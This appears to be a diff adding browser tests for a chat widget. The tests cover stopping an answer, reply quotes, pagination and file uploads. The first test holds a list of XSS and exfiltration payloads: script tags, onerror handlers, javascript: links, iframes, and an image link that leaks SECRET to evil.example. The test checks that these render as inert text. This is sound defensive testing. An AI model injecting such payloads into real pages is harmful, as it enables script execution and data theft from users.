@@ -1,0 +1,166 @@
+import { describe, expect, it } from "vitest";
+import { makeDelivery } from "./make-delivery.ts";
+import { runningGateways } from "./running-gateways.ts";
+import { WidgetInBrowser } from "./widget-in-browser.ts";
+
+const start = runningGateways();
+const widget = new WidgetInBrowser();
+
+const hostile = [
+  "![x](https://evil.example/?q=SECRET)",
+  '<img src="https://evil.example/a.png" onerror="alert(1)">',
+  '<form action="https://evil.example"><input name="a"><button>go</button></form>',
+  "<script>alert(1)</script>",
+  "<style>* { display: none }</style>",
+  '<iframe src="https://evil.example"></iframe>',
+  "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) [d](vbscript:x)",
+  '<a href="javascript:alert(1)" onclick="alert(1)">e</a>',
+  '<svg><script>alert(1)</script></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<div class="anchor" style="position:fixed">↳ Re: "forged"</div>',
+].join("\n\n");
+
+describe("given a conversation in the widget", () => {
+  it("when an answer is hostile markdown, then it is text: nothing loads, submits, runs or imitates", async () => {
+    const gateway = await start();
+    const visitor = await widget.begin(gateway);
+    const requests: string[] = [];
+    widget.page.on("request", (request) => requests.push(request.url()));
+    await gateway.adapter.deliver(makeDelivery(visitor, "r1", { reply: { markdown: hostile } }));
+    const reply = widget.page.locator(".log .reply .text");
+    await reply.locator("a").first().waitFor();
+    const found = await reply.evaluate((node) => ({
+      tags: [...new Set([...node.querySelectorAll("*")].map(({ localName }) => localName))].sort(),
+      attributes: [...new Set([...node.querySelectorAll("*")].flatMap((each) => each.getAttributeNames()))].sort(),
+      links: [...node.querySelectorAll("a")].map(({ href }) => href),
+      text: node.textContent,
+    }));
+    expect(found.tags).toEqual(["a", "p"]);
+    expect(found.attributes).toEqual(["dir", "href", "rel", "target"]);
+    expect(found.links).toEqual(["https://evil.example/?q=SECRET"]);
+    expect(found.text).toContain("<script>alert(1)</script>");
+    expect(requests.filter((url) => url.includes("evil"))).toEqual([]);
+  });
+
+  it("when somebody has read enough, then one button stops the answer, and nothing of that is in the way", async () => {
+    const gateway = await start();
+    await widget.open(gateway);
+    await widget.write("tell me everything");
+    const { id, conversation } = await widget.arrived(gateway, 1);
+    gateway.adapter.hear({ type: "delta", conversation, correlationId: id, attempt: 1, offset: 0, text: "It began" });
+    await widget.page.locator(".drafts .reply", { hasText: "It began" }).waitFor();
+    await widget.page.getByRole("button", { name: "Stop answering" }).click();
+    const stop = await widget.arrived(gateway, 2);
+    expect(stop).toMatchObject({ command: { name: "cancel", args: "answer" } });
+    const notice = { kind: "notice" as const, correlationId: stop.id, markdown: "I stopped." };
+    await gateway.adapter.deliver(makeDelivery(conversation.room, "r1", { reply: notice }));
+    const final = { correlationId: id, markdown: "It began …\n\n_Stopped._", outcome: "cancelled" as const };
+    await gateway.adapter.deliver(makeDelivery(conversation.room, "r2", { reply: final }));
+    await widget.page.getByRole("button", { name: "Send" }).waitFor();
+    expect(await widget.page.locator(".log > *").count()).toBe(2);
+    expect(await widget.page.locator(".log .reply em").textContent()).toBe("Stopped.");
+  });
+
+  it("when one is answered, then the answer quotes it, and the quote leads back to it", async () => {
+    const gateway = await start();
+    const visitor = await widget.begin(gateway);
+    await gateway.adapter.deliver(makeDelivery(visitor, "r1", { reply: { markdown: "High water is at **noon**." } }));
+    await widget.page.locator(".reply strong").waitFor();
+    await widget.page.getByRole("button", { name: "Reply" }).click();
+    await widget.page.locator(".answering", { hasText: "High water is at noon." }).waitFor();
+    await widget.write("sure?");
+    expect(await widget.arrived(gateway, 2)).toMatchObject({ text: "sure?", replyTo: "r1" });
+    await widget.page.locator(".said .quote", { hasText: "High water is at noon." }).click();
+    await widget.page.locator(".reply.found").waitFor();
+  });
+
+  it("when an anchor is of this conversation, then it leads to where the work began, on an older page too (O12)", async () => {
+    const gateway = await start();
+    await widget.open(gateway);
+    await widget.write("the first of all");
+    const first = await widget.arrived(gateway, 1);
+    const { room } = first.conversation;
+    for (let index = 0; index < 120; index++)
+      await gateway.adapter.deliver(
+        makeDelivery(room, `r${index}`, { reply: { createdAt: new Date().toISOString() } }),
+      );
+    const startedAt = first.sentAt;
+    const origin = {
+      channel: "web",
+      promptSummary: "first",
+      startedAt,
+      sessionId: "s0",
+      messageId: first.messageId ?? "",
+    };
+    const anchor = { summary: "the first", channel: "web", startedAt, text: "" };
+    await gateway.adapter.deliver(makeDelivery(room, "late", { anchor, reply: { origin } }));
+    await widget.open(gateway);
+    await widget.page.locator(".anchor .about").click();
+    await widget.page.locator(".said.found", { hasText: "the first of all" }).waitFor();
+    expect(await widget.page.locator(".said.found").isVisible()).toBe(true);
+  });
+
+  it("when there are 2000 messages, then they come page by page, and drawing stays quick", async () => {
+    const gateway = await start();
+    const visitor = await widget.begin(gateway);
+    await widget.page.goto("about:blank");
+    const long = "A line of some length, **with a little** `mark-up`.\n\n- one\n- two";
+    for (let index = 1; index < 2_000; index++) {
+      await gateway.adapter.deliver(makeDelivery(visitor, `r${index}`, { reply: { markdown: `${index}: ${long}` } }));
+    }
+    await widget.open(gateway);
+    const entries = widget.page.locator(".log > *");
+    await entries.nth(99).waitFor({ state: "attached" });
+    expect(await entries.count()).toBeLessThan(500);
+    const scroll = widget.page.getByRole("log");
+    await expect
+      .poll(
+        async () => {
+          await scroll.evaluate((node) => node.scrollTo(0, 0));
+          return entries.count();
+        },
+        { timeout: 50_000, interval: 100 },
+      )
+      .toBe(2_000);
+    expect(await entries.first().textContent()).toContain("hello");
+    // How long the page is held up by one more message, among all of them.
+    const held = widget.page.evaluate<number>(`new Promise((done) => {
+      let longest = 0;
+      const observer = new PerformanceObserver((list) => {
+        for (const { duration } of list.getEntries()) longest = Math.max(longest, duration);
+      });
+      observer.observe({ type: "longtask" });
+      setTimeout(() => { observer.disconnect(); done(longest); }, 1500);
+    })`);
+    await gateway.adapter.deliver(makeDelivery(visitor, "last", { reply: { markdown: `last: ${long}` } }));
+    await widget.page.locator(".reply", { hasText: "last:" }).waitFor({ state: "attached" });
+    expect(await held).toBeLessThan(400);
+  });
+
+  it("when files are picked, pasted or too large, then they are sent with the message, or it is said why not", async () => {
+    const gateway = await start({ config: { limits: { fileBytes: 2_000 } } });
+    await widget.open(gateway);
+    const notes = { name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("tides") };
+    const large = { name: "large.bin", mimeType: "application/octet-stream", buffer: Buffer.alloc(3_000) };
+    const empty = { name: "empty.txt", mimeType: "text/plain", buffer: Buffer.alloc(0) };
+    await widget.page.locator("input[type=file]").setInputFiles([notes, large, empty]);
+    const chips = widget.page.locator(".uploads .file");
+    await chips.filter({ hasText: "notes.txt" }).getByText("5 B").waitFor();
+    await chips.filter({ hasText: "large.bin" }).getByText("Too large: 2 kB at most").waitFor();
+    await chips.filter({ hasText: "empty.txt" }).getByText("This file is empty").waitFor();
+    await widget.page.getByRole("button", { name: "Remove large.bin" }).click();
+    await widget.page.evaluate(`(() => {
+      const clipboardData = new DataTransfer();
+      clipboardData.items.add(new File(["x"], "pasted.txt", { type: "text/plain" }));
+      const input = document.querySelector("[data-mooring]").shadowRoot.querySelector("textarea");
+      input.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true }));
+    })()`);
+    await chips.filter({ hasText: "pasted.txt" }).getByText("1 B").waitFor();
+    await widget.write("read these");
+    const { attachments } = await widget.arrived(gateway, 1);
+    expect(attachments.map(({ name }) => name)).toEqual(["notes.txt", "pasted.txt"]);
+    const download = widget.page.waitForEvent("download");
+    await widget.page.getByRole("button", { name: "Download notes.txt" }).click();
+    expect((await download).suggestedFilename()).toBe("notes.txt");
+    expect(await chips.count()).toBe(0);
+  });
+});
